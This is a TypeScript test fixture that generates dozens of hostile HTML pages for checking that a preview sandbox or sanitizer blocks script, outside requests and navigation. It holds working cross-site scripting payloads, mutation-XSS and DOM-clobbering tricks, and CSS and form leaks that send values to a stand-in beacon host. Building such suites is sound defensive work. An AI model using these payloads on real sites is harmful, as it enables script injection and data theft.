/** Custom HTML that tries to run script, to reach the network or to leave the preview. (DESIGN sections 4 and 9) */
export interface HostilePage {
  name: string;
  html: string;
}

/** @param beacon - origin of a server that must never hear anything. */
export function hostilePages(beacon: string): HostilePage[] {
  const to = (name: string) => `${beacon}/${name}`;
  const run = `parent.postMessage('ran','*');fetch('${to('script')}')`;
  const attribute = run.replaceAll("'", '&#39;');
  const page = (name: string, body: string, head = ''): HostilePage => ({
    name,
    html: `<!DOCTYPE html><html><head><title>${name}</title>${head}</head><body>${body}</body></html>`,
  });
  const inHead = (name: string, head: string) => page(name, '<p>head</p>', head);
  const each = (name: string, all: Record<string, string>) =>
    Object.entries(all).map(([detail, body]) => page(`${name}: ${detail}`, body));

  return [
    ...each('script', {
      inline: `<script>${run}</script>`,
      module: `<script type="module">${run}</script>`,
      remote: `<script src="${to('remote.js')}"></script>`,
      'import map': `<script type="importmap">{"imports":{"x":"${to('x.js')}"}}</script><script type="module">import 'x'</script>`,
      'data address': `<script src="data:text/javascript,${encodeURIComponent(run)}"></script>`,
      'svg script': `<svg><script>${run}</script></svg>`,
      'svg script with href': `<svg><script href="${to('svg.js')}"></script></svg>`,
      'svg script with xlink': `<svg><script xlink:href="data:,${encodeURIComponent(run)}"></script></svg>`,
      'mixed case, unclosed': `<ScRiPt>${run}`,
      'inside noscript': `<noscript><p title="</noscript><script>${run}</script>"></p></noscript>`,
      'inside a template': `<template><script>${run}</script></template>`,
      'declarative shadow root': `<div><template shadowrootmode="open"><script>${run}</script><img src="${to('shadow.png')}"></template></div>`,
      'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to('speculated')}"]}]}</script>`,
      'math mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attribute}&gt;">`,
      'comment trick': `<!--><script>${run}</script>-->`,
      'nested form mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${attribute}">`,
    }),
    ...each('handler', {
      'img onerror': `<img src="x:y" onerror="${attribute}">`,
      'img onload': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${attribute}">`,
      'body onload': `<body onload="${attribute}">`,
      'html onclick': `<html onclick="${attribute}"><a>press</a>`,
      'svg onload': `<svg onload="${attribute}"></svg>`,
      'autofocus onfocus': `<input autofocus onfocus="${attribute}">`,
      'details ontoggle': `<details open ontoggle="${attribute}"><summary>x</summary></details>`,
      'animation end': `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend="${attribute}">x</p>`,
      'transition run': `<a style="transition:color 1ms" ontransitionend="${attribute}">x</a>`,
      'button onclick': `<button onclick="${attribute}">x</button>`,
      'link onclick': `<a href="#" onclick="${attribute}">x</a>`,
      'input oninvalid': `<form><input required oninvalid="${attribute}"><button>x</button></form>`,
      'video onerror': `<video><source src="x:y" onerror="${attribute}"></video>`,
      'marquee onstart': `<marquee onstart="${attribute}">x</marquee>`,
      'popover onbeforetoggle': `<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="${attribute}">y</div>`,
      'svg animation onbegin': `<svg><animate onbegin="${attribute}" attributeName="x" dur="1s"/></svg>`,
      'slot change': `<div onscroll="${attribute}" style="height:20px;overflow:auto"><br><br><a href="#end">x</a><p id="end">y</p></div>`,
      'content visibility': `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${attribute}">x</div>`,
    }),
    ...each('javascript address', {
      link: `<a href="javascript:${attribute}">x</a>`,
      'link with white space': `<a href=" java&#10;script:${attribute}">x</a>`,
      'link to a new window': `<a href="javascript:${attribute}" target="_blank">x</a>`,
      'form action': `<form action="javascript:${attribute}"><button>x</button></form>`,
      'button formaction': `<form><button formaction="javascript:${attribute}">x</button></form>`,
      'svg link': `<svg width="50" height="50"><a href="javascript:${attribute}"><rect width="50" height="50"/></a></svg>`,
      'svg xlink': `<svg width="50" height="50"><a xlink:href="javascript:${attribute}"><rect width="50" height="50"/></a></svg>`,
      'svg animated link': `<svg width="50" height="50"><a><animate attributeName="href" values="javascript:${attribute}"/><rect width="50" height="50"/></a></svg>`,
      'svg set': `<svg width="50" height="50"><a><set attributeName="href" to="javascript:${attribute}"/><rect width="50" height="50"/></a></svg>`,
      'math link': `<math href="javascript:${attribute}"><mi>x</mi></math>`,
      area: `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" width="50" height="50"><map name="m"><area coords="0,0,50,50" href="javascript:${attribute}"></map>`,
      iframe: `<iframe src="javascript:${attribute}"></iframe>`,
      object: `<object data="javascript:${attribute}"></object>`,
      embed: `<embed src="javascript:${attribute}">`,
      'style background': `<p style="background:url(javascript:${attribute})">x</p>`,
    }),
    ...each('frame', {
      srcdoc: `<iframe srcdoc="<script>${attribute}</script>"></iframe>`,
      remote: `<iframe src="${to('frame')}"></iframe>`,
      'data address': `<iframe src="data:text/html,<script>${attribute}</script>"></iframe>`,
      object: `<object data="${to('object.html')}" type="text/html"></object>`,
      embed: `<embed src="${to('embed.swf')}">`,
      frameset: `<frameset><frame src="${to('frameset')}"></frameset>`,
      portal: `<portal src="${to('portal')}"></portal><fencedframe src="${to('fenced')}"></fencedframe>`,
      applet: `<applet code="x" archive="${to('x.jar')}"></applet>`,
    }),
    ...each('request', {
      image: `<img src="${to('a.png')}">`,
      'image set': `<img srcset="${to('b.png')} 1x, ${to('c.png')} 2x">`,
      picture: `<picture><source srcset="${to('d.webp')}"><img src="${to('d.png')}"></picture>`,
      'lazy image': `<img loading="lazy" src="${to('e.png')}">`,
      'input image': `<input type="image" src="${to('f.png')}">`,
      'svg image': `<svg><image href="${to('g.png')}"/><image xlink:href="${to('h.png')}"/></svg>`,
      'svg use': `<svg><use href="${to('i.svg')}#x"/></svg>`,
      'svg filter': `<svg><filter id="f"><feImage href="${to('j.png')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg><p style="filter:url(${to('k.svg')}#f)">x</p>`,
      video: `<video src="${to('l.mp4')}" poster="${to('m.png')}" autoplay muted></video>`,
      audio: `<audio src="${to('n.mp3')}" autoplay></audio>`,
      track: `<video><track default src="${to('o.vtt')}"></video>`,
      'old background': `<table background="${to('p.png')}"><td background="${to('q.png')}">x</td></table>`,
      'body background': `<body background="${to('r.png')}">`,
      'link ping': `<a href="#x" ping="${to('ping')}">x</a>`,
      'style attribute': `<p style="background-image:url('${to('s.png')}');list-style-image:url(${to('t.png')});cursor:url(${to('u.cur')}),auto">x</p>`,
      'image-set in style': `<p style="background:image-set('${to('v.png')}' 1x);mask-image:url(${to('w.svg')});border-image:url(${to('x.png')})">x</p>`,
      'style element': `<style>@import '${to('y.css')}';@import url(${to('z.css')});p{background:url(${to('aa.png')})}</style><p>x</p>`,
      'font face': `<style>@font-face{font-family:x;src:url(${to('bb.woff2')})}p{font-family:x}</style><p>x</p>`,
      'generated content': `<style>p::before{content:url(${to('cc.png')})}p:hover{background:url(${to('dd.png')})}</style><p>x</p>`,
      'attribute selector leak': `<style>input[value^="s"]{background:url(${to('leak')})}</style><input value="secret">`,
      'link in the body': `<link rel="stylesheet" href="${to('ee.css')}">`,
    }),
    inHead('request: stylesheet', `<link rel="stylesheet" href="${to('ff.css')}">`),
    inHead(
      'request: icons',
      `<link rel="icon" href="${to('gg.ico')}"><link rel="apple-touch-icon" href="${to('hh.png')}">`,
    ),
    inHead(
      'request: preload',
      `<link rel="preload" as="image" href="${to('ii.png')}"><link rel="modulepreload" href="${to('jj.js')}">`,
    ),
    inHead('request: prefetch', `<link rel="prefetch" href="${to('kk')}"><link rel="prerender" href="${to('ll')}">`),
    inHead(
      'request: early connection',
      `<link rel="preconnect" href="${beacon}"><link rel="dns-prefetch" href="${beacon}">`,
    ),
    inHead('request: manifest', `<link rel="manifest" href="${to('mm.json')}">`),
    inHead('request: import', `<link rel="import" href="${to('nn.html')}"><link rel="amphtml" href="${to('oo')}">`),
    inHead('request: base', `<base href="${beacon}/base/"><img src="pp.png"><a href="qq">x</a>`),
    inHead('request: link header', `<meta http-equiv="Link" content="<${to('rr.css')}>; rel=stylesheet">`),
    inHead(
      'meta: looser policy',
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${to('ss.png')}">`,
    ),
    inHead(
      'meta: set-cookie',
      `<meta http-equiv="Set-Cookie" content="x=1"><meta http-equiv="X-DNS-Prefetch-Control" content="on"><a href="${beacon}">x</a>`,
    ),
    inHead('meta: refresh', `<meta http-equiv="refresh" content="0;url=${to('refresh')}">`),
    inHead('meta: refresh in mixed case', `<META HTTP-EQUIV="ReFresh" CONTENT="0; URL='${to('refresh2')}'">`),
    inHead('meta: refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${attribute}">`),
    inHead('meta: refresh of the page', '<meta http-equiv="refresh" content="0">'),
    ...each('cover', covers(beacon)),
    ...each('navigation', {
      'meta refresh in the body': `<meta http-equiv="refresh" content="0;url=${to('refresh3')}">`,
      link: `<a href="${to('link')}">x</a>`,
      'link of this server': '<a href="/elsewhere">x</a>',
      'empty link': '<a href="">x</a>',
      'link to a query': '<a href="?x=1">x</a>',
      'link to the top': `<a href="${to('top')}" target="_top">x</a>`,
      'link to the parent': `<a href="${to('parent')}" target="_parent">x</a>`,
      'link to a new window': `<a href="${to('blank')}" target="_blank" rel="opener">x</a>`,
      'link to itself by base target': `<base target="_top"><a href="${to('base-target')}">x</a>`,
      download: `<a href="${to('file.bin')}" download>x</a>`,
      'download of data': '<a href="data:application/octet-stream,x" download="x.exe">x</a>',
      'data address': `<a href="data:text/html,<script>${attribute}</script>">x</a>`,
      'svg link': `<svg width="50" height="50"><a href="${to('svg-link')}"><rect width="50" height="50"/></a></svg>`,
      'svg xlink': `<svg width="50" height="50"><a xlink:href="${to('svg-xlink')}"><rect width="50" height="50"/></a></svg>`,
      area: `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" width="50" height="50"><map name="m"><area coords="0,0,50,50" href="${to('area')}"></map>`,
      'form get': `<form action="${to('form')}"><input name="q" value="secret"><button>x</button></form>`,
      'form post': `<form method="post" action="${to('form-post')}"><input name="q" value="secret"><input type="submit"></form>`,
      'form to the top': `<form target="_top" action="${to('form-top')}"><button>x</button></form>`,
      'form to a new window':
        '<form action="/#/customization/web" target="_blank"><button type="submit">x</button></form>',
      'formaction of a button outside': `<form id="f"></form><button form="f" formaction="${to('formaction')}" formmethod="post">x</button>`,
      'image button': `<form action="${to('image-button')}"><input type="image" alt="x"></form>`,
      'form in a dialog': `<dialog open><form method="dialog"><button>x</button></form><a href="${to('dialog')}">y</a></dialog>`,
      'mail and telephone': '<a href="mailto:a@example.com">x</a><a href="tel:1">y</a><a href="ms-word:x">z</a>',
      'access key': `<a accesskey="k" href="${to('accesskey')}">x</a>`,
      'editable link': `<div contenteditable><a href="${to('editable')}">x</a></div>`,
      'cover over everything': `<a href="${to('cover')}" style="position:fixed;inset:0">x</a>`,
    }),
  ];
}

/** Controls whose names cover members of their form or of the document, so that a careless check throws or is blind. */
function covers(beacon: string): Record<string, string> {
  const names = ['nodeType', 'hasAttribute', 'getAttribute', 'attributes', 'localName', 'closest', 'parentNode'];
  const more = [
    'childNodes',
    'firstChild',
    'nextSibling',
    'remove',
    'removeChild',
    'querySelectorAll',
    'matches',
    'id',
  ];
  const inForm = [...names, ...more].map((name) => [
    `form ${name}`,
    `<a href="${beacon}/cover"><form action="${beacon}/form"><input name="${name}"><b>x</b><script src="${beacon}/s.js"></script><button>y</button></form></a>`,
  ]);
  const onDocument = ['body', 'head', 'documentElement', 'querySelectorAll', 'getElementById', 'adoptNode', 'title'];
  const inDocument = onDocument.map((name) => [
    `document ${name}`,
    `<img name="${name}"><form name="${name}"></form><meta http-equiv="refresh" content="0;url=${beacon}/r"><a href="${beacon}/a"><b>x</b></a><a href="#z">z</a>`,
  ]);
  return Object.fromEntries([...inForm, ...inDocument]);
}
